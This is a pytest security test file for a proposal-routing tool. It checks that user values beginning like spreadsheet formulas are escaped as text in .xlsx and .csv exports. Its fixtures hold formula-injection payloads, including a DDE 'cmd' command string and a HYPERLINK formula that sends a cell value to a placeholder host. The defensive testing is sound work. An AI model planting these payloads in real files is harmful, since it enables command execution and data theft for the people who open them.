"""Finding 1 (high): user values ended up as live formulas in the routing sheet and the batch output.

Every user-supplied value that starts like a formula must be written as text, in every writer
(.xlsx and .csv); the files are read back and no cell may hold a formula.
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from matcher.tables import cell_value
from routing import Router, RoutingOptions, parse_panels, proposals_from_items
from routing.export import write_output, xlsx_bytes

from routing_support import FakeMatcher, panels_yaml, three_panels
from security_support import FORMULA_STARTS, KEY, finished_run, formula_cells, staff_client

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'
CMD = "=cmd|' /C calc'!A0"
HOSTILE = [
    {"id": "=1+1", "title": HYPERLINK, "abstract": "d1=0.9 锂电池", "applicant_org": CMD, "partner_orgs": "+SUM(A1:A9)；@A1"},
    {"id": "-2+3", "title": "\t=2*3", "abstract": "d16=0.9", "applicant_org": "＝1+1", "partner_orgs": "\r=1"},
    {"id": "@x", "title": "普通标题", "abstract": "d30=0.9", "applicant_org": "某公司", "partner_orgs": ""},
]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1"])
def test_the_helper_makes_every_formula_start_text(value):
    assert cell_value(value) == "'" + value
    assert not cell_value(value).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", ["锂电池", "P06", "", " =not at the start", 1, -1.5, None, True])
def test_the_helper_leaves_other_values_alone(value):
    assert cell_value(value) == value


def test_characters_an_xlsx_cannot_hold_become_spaces():
    assert cell_value("标题\x01\x0b") == "标题  "


def _hostile_state(tmp_path):
    panels = parse_panels(panels_yaml(three_panels()), "panels.yaml")
    router = Router(FakeMatcher(), tmp_path / "r.sqlite", panels)
    state = router.route(proposals_from_items(HOSTILE), RoutingOptions(), actor="=HYPERLINK(\"x\")", source="=1+2")
    router.override(state.run_id, "=1+1", "B", reason="=cmd|' /C calc'!A0", actor="+actor", force=True)
    return router, router.state(state.run_id)


def test_routing_sheet_holds_no_formula(tmp_path):
    router, state = _hostile_state(tmp_path)
    data = xlsx_bytes(state)
    assert formula_cells(data) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    # the values are all there, as text: nothing was dropped
    assert "'" + HYPERLINK in values and "'" + CMD in values and "'=1+1" in values
    assert "'=cmd|' /C calc'!A0" in values and "'+actor" in values
    assert len(wb.sheetnames) == 5  # summary, three panels and the overrides


def test_routing_sheet_written_to_disk_holds_no_formula(tmp_path):
    router, state = _hostile_state(tmp_path)
    out = write_output(state, tmp_path / "routing.xlsx")
    assert formula_cells(out.read_bytes()) == []
    assert not list(tmp_path.glob("*.part")) and not list(tmp_path.glob(".*.part"))


def test_routing_sheet_over_the_api_holds_no_formula(tmp_path):
    with staff_client(tmp_path) as client:
        run = finished_run(client, client.post("/v1/routing/runs", json={"items": HOSTILE, "actor": "=1+1"}, headers=KEY))
        r = client.post(f"/v1/routing/runs/{run['run_id']}/overrides",
                        json={"proposal_id": "@x", "panel_id": "A", "reason": "@SUM(A1:A2)", "actor": "-1", "force": True},
                        headers=KEY)
        assert r.status_code == 201, r.text
        x = client.get(f"/v1/routing/runs/{run['run_id']}/export.xlsx", headers=KEY)
        assert x.status_code == 200
        assert formula_cells(x.content) == []


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_batch_output_holds_no_formula(cli_run, tmp_path, suffix):
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": ["=1+1", HYPERLINK, "@A1"],
                  "text": ["高压实磷酸铁锂正极材料连续化制备", "质子交换膜燃料电池电堆", ""]}).to_csv(src, index=False)
    out = tmp_path / f"out{suffix}"
    code, _, err = cli_run("batch", src, "-o", out, "--top-k", "1")
    assert code == 0, err
    if suffix == ".xlsx":
        assert formula_cells(out.read_bytes()) == []
        ids = [c.value for c in openpyxl.load_workbook(out).active["A"][1:]]
    else:
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
        assert not [v for row in rows for v in row if v.startswith(FORMULA_STARTS)]
        ids = [row[0] for row in rows[1:]]
    assert ids == ["'=1+1", "'" + HYPERLINK, "'@A1"]
